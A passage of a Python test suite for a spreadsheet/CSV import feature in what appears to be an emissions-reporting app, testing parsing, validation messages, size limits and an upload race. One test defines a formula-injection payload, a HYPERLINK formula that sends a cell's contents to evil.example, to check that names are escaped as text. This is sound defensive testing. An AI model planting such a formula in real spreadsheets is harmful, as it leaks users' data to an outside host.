        (1, Decimal("1"), "10^4 Nm3"), (3, Decimal("2"), "10^4 Nm3"), (2, Decimal("3000"), "kWh")]
    assert parsed.production[0].product_id == 9 and parsed.output_values == {date(2026, 10, 1): Decimal("12000")}


def test_an_ambiguous_name_asks_for_the_id():
    parsed = _parse(("月份,排放源名称,数量\r\n2026-10,燃气锅炉,1" + TABLES).encode(), SOURCES, PRODUCTS)
    assert [str(p.message) for p in parsed.problems] == ["several emission sources are named '燃气锅炉': give the source ID."]


def test_measured_values_that_do_not_apply_are_refused():
    data = ("月份,排放源编号,数量,低位发热量,碳氧化率,绿电\r\n2026-10,2,1,5,,\r\n2026-10,1,1,,98,3" + TABLES).encode()
    problems = [(p.row, p.column, str(p.message)) for p in _parse(data, SOURCES, PRODUCTS).problems]
    ncv = "实测低位发热量 GJ/单位 Measured NCV GJ/unit"
    assert (2, ncv, f"{ncv} does not apply to 外购电力 (purchased_electricity); leave it empty.") in problems
    assert (3, "实测碳氧化率 Measured oxidation rate",
            "the oxidation rate is a fraction of at most 1: write 0.98, not 98.") in problems
    assert any(row == 3 and column.startswith("绿电") for row, column, _ in problems)


def test_a_problem_reads_as_a_sentence():
    data = ("月份,排放源编号,数量\r\n\r\n2026-10,1,abc" + TABLES).encode()
    assert [str(p) for p in _parse(data, SOURCES, PRODUCTS).problems] == [
        "活动数据 Activity data sheet, row 3, column 数量 Quantity: 'abc' is not a number."]


def test_the_size_check_comes_before_anything_else():
    started = time.monotonic()
    parsed = _parse(bytes(50 * 1024 * 1024), max_bytes=5 * 1024 * 1024)
    assert time.monotonic() - started < 1
    assert [str(p) for p in parsed.problems] == ["The file is 50.0 MB; files up to 5.0 MB are accepted."]


@pytest.mark.parametrize("data,message", [
    (b"", "The file is empty."),
    (b"%PDF-1.7\n", "it looks like PDF"),
    (b"PK\x03\x04garbage", "The workbook is damaged"),
    ("月份,排放源编号,数量\r\n2026-10,1,1".encode("utf-16"), "not a spreadsheet"),
])
def test_files_that_are_not_spreadsheets(data, message):
    assert message in str(_parse(data, SOURCES, PRODUCTS).problems[0])


def test_blank_template_has_no_figures():
    data = build_csv([date(2026, 10, 1)], list(SOURCES.values()), list(PRODUCTS.values()))
    parsed = _parse(data, SOURCES, PRODUCTS)
    assert [str(p) for p in parsed.problems] == [
        "The file has no figures: fill in the quantity column for the sources and months you report."]


def test_template_round_trip_without_an_app():
    months = [date(2026, 9, 1), date(2026, 10, 1)]
    book = load_workbook(io.BytesIO(build_xlsx(months, list(SOURCES.values()), list(PRODUCTS.values()), "测试")))
    sheet = book[ACTIVITY]
    sheet["H3"], sheet["H4"] = "1,000", 2
    book[PRODUCTION]["E3"] = 7
    parsed = _parse(_bytes(book), SOURCES, PRODUCTS)
    assert parsed.ok and parsed.months == [date(2026, 9, 1)] and parsed.empty_months == [date(2026, 10, 1)]
    assert [r.as_line() for r in parsed.rows] == [
        {"source_id": 1, "quantity": Decimal("1000"), "unit": "10^4 Nm3", "measured": {}, "green_mwh": None},
        {"source_id": 2, "quantity": Decimal("2"), "unit": "MWh", "measured": {}, "green_mwh": None}]
    assert parsed.production[0].as_line() == {"product_id": 9, "quantity": Decimal("7"), "unit": "t"}


def test_a_product_in_another_unit_is_refused():
    data = ("月份,排放源编号,数量\r\n2026-10,1,1\r\n\r\n月份,产品编号,单位,产量\r\n2026-10,9,kg,5\r\n\r\n"
            "月份,工业总产值\r\n").encode()
    problems = _parse(data, SOURCES, PRODUCTS).problems
    assert [str(p.message) for p in problems] == ["醋酸 is counted in t: enter its quantity in t."]


def test_an_upload_racing_another_for_a_new_month_is_refused_whole(db, manager, plant, monkeypatch):
    """Two uploads of the same new month at once (a double click): both found no filing, and the second's
    revision 1 hits the unique constraint. It is refused as a whole with a message, not a 500."""
    data = _bytes(_filled(plant, _template(manager)))
    assert _upload(manager, data).status_code == 200
    before = _counts(db)
    # The racing upload read "no filing yet" before the first committed: simulated by hiding the draft from it.
    monkeypatch.setattr(import_services, "_latest", lambda org, period: None)
    monkeypatch.setattr(filing_services, "latest_filing", lambda org_id, period: None)
    response = _upload(manager, data)
    assert response.status_code == 409
    assert "at the same moment" in _text(response)
    assert _counts(db) == before


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_source_named_like_a_formula_is_text_in_the_template_and_imports_back(app, db, plant, manager, fmt):
    """Issue 16 #2: a name starting with = is written as text (with an apostrophe), and the app accepts its file."""
    plant["sources"]["diesel"].name = FORMULA_NAME
    plant["facility"].name = "+厂区"
    db.session.commit()
    data = _template(manager, fmt=fmt)
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(data))
        cells = [c for row in book[ACTIVITY].iter_rows() for c in row if isinstance(c.value, str)]
        assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "-", "@"))]
        assert "'" + FORMULA_NAME in {c.value for c in cells} and "'+厂区" in {c.value for c in cells}
        upload = _bytes(_filled(plant, data))
    else:
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        assert not [v for row in rows for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'" + FORMULA_NAME in {v for row in rows for v in row}
        upload = ("\ufeff" + _csv_filled(plant, text)).encode("utf-8")
    response = _upload(manager, upload, f"月报.{fmt}")
    assert response.status_code == 200 and 'data-testid="import-done"' in _text(response), _text(response)[:3000]
    assert _current_total(db, _filing(db, plant["org"])) == EXAMPLE_7_TOTAL
